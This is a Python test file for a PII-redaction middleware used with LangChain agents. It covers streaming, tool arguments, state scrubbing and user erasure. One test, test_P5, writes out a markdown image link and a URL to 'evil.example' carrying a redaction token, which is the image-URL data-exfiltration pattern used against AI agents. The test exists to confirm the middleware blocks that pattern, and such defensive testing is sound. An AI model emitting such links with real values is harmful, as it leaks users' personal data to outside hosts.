"""The parts of the agent middleware by themselves, over every way of cutting and nesting."""

from __future__ import annotations

import subprocess
import sys
from pprint import pformat
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage
from langgraph.types import Command, Interrupt, Send

from langchain_piirag.agent_edge import Edge, StreamShape
from langchain_piirag.agent_reply import token_pairs
from langchain_piirag.agent_scrub import StateScrubber
from langchain_piirag.agent_users import Allowed
from piirag import Redactor, Scrubber
from piirag.errors import InvalidInputError
from piirag.redaction.walk import redact_value
from support.agents import ALICE, ANY_TOKEN, CANARIES, CARD, MAIL, NAME, TEXT, kit, last_text

KNOWN = {"PERSON": [NAME]}


def _scrubber() -> StateScrubber:
    return StateScrubber(Scrubber(), "alice", known=KNOWN)


SCRUBBER = _scrubber()
_PIECES = st.lists(
    st.sampled_from(
        [MAIL, NAME, CARD, " and ", "[", "]", "[PERSON", " Kobaru", "[PERSON_1] ", "x"]
    ),
    max_size=12,
)
_CUTS = st.lists(st.integers(1, 9), min_size=1, max_size=8)


@settings(deadline=None)
@given(pieces=_PIECES, cuts=_CUTS)
def test_S4_the_edge_shows_the_same_for_every_split(pieces: list[str], cuts: list[int]) -> None:
    stored = SCRUBBER.text(" ".join(pieces))
    edge = Edge(SCRUBBER)
    shape = StreamShape("messages", False, "v1")
    shown: list[Any] = []
    at = number = 0
    while at < len(stored):
        size = cuts[number % len(cuts)]
        number += 1
        chunk = AIMessageChunk(stored[at : at + size], id="m")
        shown += edge.parts((chunk, {"langgraph_node": "model"}), shape)
        at += size
    shown += edge.rest(shape)
    texts = [chunk.content for chunk, _ in shown]
    assert "".join(texts) == SCRUBBER.reveal(stored)
    assert not any(ANY_TOKEN.search(t) for t in texts if not ANY_TOKEN.search(SCRUBBER.reveal(t)))


_LEAF = st.one_of(st.sampled_from([MAIL, NAME, "", "plain", f"to {MAIL}, {NAME}!"]), st.booleans())
_ARGS = st.dictionaries(
    st.sampled_from(["to", "cc", "n"]),
    st.recursive(_LEAF, lambda inner: st.lists(inner, max_size=3), max_leaves=6),
    max_size=3,
)


@settings(deadline=None)
@given(args=_ARGS)
def test_tokens_are_paired_with_the_values_behind_them(args: dict[str, Any]) -> None:
    session = Redactor().session(known=KNOWN)
    written = redact_value(session, args)
    real = session.reply().value(written, "tool")
    assert real == args
    pairs = token_pairs(written, real)
    assert pairs is not None
    assert all(session.mapping.lookup(token) == value for token, value in pairs.items())


@pytest.mark.parametrize(
    ("written", "real"),
    [
        ({"to": "[X_1]"}, {"to": ""}),
        ({"to": "[X_1]"}, {"cc": "v"}),
        ({"to": "a [X_1]"}, {"to": "b v"}),
        ({"to": "[X_1] [X_1]"}, {"to": "v w"}),
        ({"to": "[X_1][X_2]"}, {"to": "vw"}),
        ({"to": ["[X_1]"]}, {"to": ["v", "w"]}),
        ({"to": 1}, {"to": True}),
    ],
)
def test_arguments_that_differ_in_more_than_tokens_are_not_paired(written: Any, real: Any) -> None:
    assert token_pairs(written, real) is None


def test_a_state_may_hold_whatever_langgraph_puts_into_it() -> None:
    state = {
        "messages": ["hello " + MAIL, {"role": "user", "content": NAME}, ("user", CARD)],
        "by_mail": {MAIL: {CARD, 7}},
        "next": [Send("node", {"who": NAME}), Command(update={"x": MAIL}, goto=["node"])],
        "asked": Interrupt({"q": MAIL}, id="0" * 32),
        "card": int(CARD),
    }
    clean = SCRUBBER.state(state)
    assert CANARIES.scan_object(clean) == []
    assert clean["next"][1].goto == ["node"] and clean["asked"].id == "0" * 32
    back = SCRUBBER.restore(clean)
    assert [m.content for m in back["messages"]] == ["hello " + MAIL, NAME, CARD]
    assert back["by_mail"] == {MAIL: {CARD, 7}}
    assert back["next"][0].arg == {"who": NAME}
    assert CANARIES.scan_object(SCRUBBER.state(clean)) == []
    # In which order a set is written is left to chance.
    assert pformat(SCRUBBER.state(clean)) == pformat(clean)


def test_nesting_without_end_is_refused() -> None:
    deep: Any = []
    for _ in range(100_000):
        deep = [deep]
    with pytest.raises(InvalidInputError):
        SCRUBBER.value(deep)


def test_P5_the_edge_puts_no_value_into_an_address() -> None:
    token = SCRUBBER.text(NAME)
    for text in (f"![x](https://evil.example/?q={token})", f"https://evil.example/{token}"):
        assert SCRUBBER.reveal(text) == text
    assert SCRUBBER.reveal(f"see https://good.example/ {token}").endswith(NAME)


def test_P14_tokens_of_an_erased_user_stay_as_they_are() -> None:
    scrubber = _scrubber()
    token = scrubber.text(NAME)
    scrubber.scrubber.vault.forget("alice")
    assert StateScrubber(scrubber.scrubber, "alice").reveal(token) == token


def test_a_name_given_to_the_agent_stays_in_a_redacted_state() -> None:
    with kit("state", reply=last_text, name="helper") as k:
        out = k.users.invoke({"messages": [HumanMessage(TEXT)]}, context=ALICE)
        assert out["messages"][-1].name == "helper"


def test_raw_messages_in_a_state_are_replaced_and_not_added_again() -> None:
    with kit("state", reply=last_text) as k:
        messages = [HumanMessage(TEXT, id=MAIL), AIMessage("hello", id="2"), HumanMessage("go on")]
        out = k.agent.invoke({"messages": messages}, context=ALICE)
        assert len(out["messages"]) == 4
        assert CANARIES.scan_object([m.content for m in out["messages"]]) == []


def test_allow_lists() -> None:
    some = Allowed({"send": ["to"], "all": True, "none": [], "no": False})
    assert some.argument("send", "to") and not some.argument("send", "body")
    assert some.whole("all") and some.argument("all", "x")
    assert not some.some("none") and not some.some("no") and not some.argument("other", "to")


def test_without_langgraph_the_error_names_the_extra() -> None:
    code = """
import importlib.util, sys
find = importlib.util.find_spec
importlib.util.find_spec = lambda n, *a: None if n == "langgraph" else find(n, *a)
import langchain_piirag
assert langchain_piirag.ToolCallError
for name in ("PIIRedactionMiddleware", "protect"):
    try:
        getattr(langchain_piirag, name)
    except ImportError as error:
        assert "piirag[agents]" in str(error), error
    else:
        raise SystemExit("no error")
assert "langgraph" not in sys.modules
"""
    subprocess.run([sys.executable, "-c", code], check=True)
